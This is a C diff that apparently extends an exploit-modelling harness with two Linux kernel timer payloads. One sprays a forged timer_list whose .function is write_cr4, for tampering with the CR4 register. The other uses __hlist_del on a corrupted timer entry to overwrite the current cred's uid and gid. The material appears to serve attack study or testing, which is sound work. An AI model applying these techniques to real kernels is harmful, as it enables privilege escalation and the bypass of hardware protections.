@@ -48,6 +48,33 @@ static void set_data(struct th_plan *plan, unsigned long data, const char *name)
 }
 #endif
 
+/*
+ * list:* payloads write the timer's struct hlist_node entry, which lies
+ * before .function: the image need reach no further than the last pointer
+ * written. Addresses as numbers, as everywhere here.
+ */
+static void set_entry(struct th_plan *plan, int which_next, uintptr_t v, const char *name)
+{
+	size_t len = strlen(plan->what);
+	size_t end;
+
+	if (which_next) {
+		plan->img.timer.next = v;
+		plan->goal.has_next = 1;
+		plan->goal.next = v;
+		end = ATK_OFF_NEXT + sizeof(plan->img.timer.next);
+	} else {
+		plan->img.timer.pprev = v;
+		plan->goal.has_pprev = 1;
+		plan->goal.pprev = v;
+		end = ATK_OFF_PPREV + sizeof(plan->img.timer.pprev);
+	}
+	if (plan->reach < end)
+		plan->reach = end;
+	snprintf(plan->what + len, sizeof(plan->what) - len, "%sentry.%s = %s (0x%lx)",
+		 len ? ", " : "", which_next ? "next" : "pprev", name, (unsigned long)v);
+}
+
 /* Bytes in name that the target will read through the ring pointer (legacy
  * .data = the ring): a fake cred, or a path. Pointless on the other
  * variants (their argument is the timer), where the attacker tries anyway. */
@@ -91,6 +118,25 @@ int th_payload_prepare(struct th_plan *plan, enum th_payload p)
 		return resolve(plan, direct, 1);
 	if (p == TH_PAYLOAD_FUNC_RAW_BODY)
 		return resolve(plan, body, 2);
+	if (p == TH_PAYLOAD_LIST_FORGED_TIMER) {
+		atk_timer forged;
+
+		/* A timer_list of the attacker's (its own layout, atk_timer):
+		 * no successor, .function = write_cr4 and, on the 4.14 layout,
+		 * .data = the CR4 value: expire_timers() calls fn(data) on 4.14,
+		 * fn(timer) on 4.15. flags 0: CPU 0, not TIMER_IRQSAFE. */
+		memset(&forged, 0, sizeof(forged));
+		forged.function = code_addr_write_cr4();
+#if TH_ATK_HAS_DATA
+		forged.data = TH_CR4_CHOSEN;
+#endif
+		plan->fake = (uintptr_t)spray_alloc(&forged, sizeof(forged));
+		if (!plan->fake)
+			return -1;
+		th_emit("TH-NOTE: sprayed a forged timer_list at 0x%lx (address leaked): next = NULL, .function = write_cr4 (0x%lx)%s",
+			(unsigned long)plan->fake, (unsigned long)forged.function,
+			TH_ATK_HAS_DATA ? ", .data = 0x407f0" : "");
+	}
 #if TH_ATK_HAS_DATA
 	if (p == TH_PAYLOAD_DATA_FAKE_OBJECT) {
 		struct atk_ring fake;
@@ -212,6 +258,51 @@ void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 		snprintf(what, sizeof(what), "%s (the body, not a jump-table entry)", plan->resolved_name);
 		set_function(plan, plan->resolved, what);
 		th_intent.target = "ring_force_close";
+		break;
+	}
+	case TH_PAYLOAD_LIST_FORGED_TIMER:
+		/*
+		 * kernel/time/timer.c (v4.14, v4.15) expire_timers(): while
+		 * (!hlist_empty(head)) { timer = hlist_entry(head->first, ...);
+		 * detach_timer(timer, true); call_timer_fn(timer, fn, data); }.
+		 * Detaching the ring's timer makes head->first its entry.next,
+		 * so the walk goes on to the forged timer and calls it. Before
+		 * the timer is armed, mod_timer()'s hlist_add_head() rewrites
+		 * entry.next: the plant is lost (the view's pprev is 0 then).
+		 */
+		set_entry(plan, 1, plan->fake, "the forged timer_list");
+		th_intent.target = "write_cr4";
+#if TH_ATK_HAS_DATA
+		/* fn(data): .data of the forged timer is the argument. */
+		th_intent.kind = TH_INTENT_VALUE;
+		th_intent.value = TH_CR4_CHOSEN;
+#endif
+		break;
+	case TH_PAYLOAD_LIST_HLIST_DEL: {
+		/* The attacker's cred mirror (atk_cred): where uid lies. */
+		uintptr_t uid = (uintptr_t)&current_cred + offsetof(struct atk_cred, uid);
+
+		/*
+		 * include/linux/list.h __hlist_del(n): *n->pprev = n->next;
+		 * if (n->next) n->next->pprev = n->pprev. Run by detach_timer()
+		 * on expiry, and by detach_if_pending() from mod_timer() and
+		 * del_timer() on a timer that looks pending (pprev != NULL).
+		 */
+		if (plan->pending) {
+			/* At expiry collect_expired_timers()' hlist_move_list()
+			 * has just rewritten pprev (the timer heads its bucket):
+			 * only next is the attacker's, and next->pprev = pprev
+			 * puts the list head's address over uid and gid. Its
+			 * *pprev = next also makes next the list's head: the
+			 * walk then takes the cred as a timer and faults (an
+			 * oops in the softirq), after the write. */
+			set_entry(plan, 1, uid - sizeof(uintptr_t), "&current_cred.uid - 8");
+		} else {
+			/* Not yet armed: mod_timer() finds pprev set, detaches,
+			 * and *pprev = next writes 0 over uid and gid. */
+			set_entry(plan, 1, 0, "NULL");
+			set_entry(plan, 0, uid, "&current_cred.uid");
+		}
 		break;
 	}
 	case TH_PAYLOAD_COUNT:
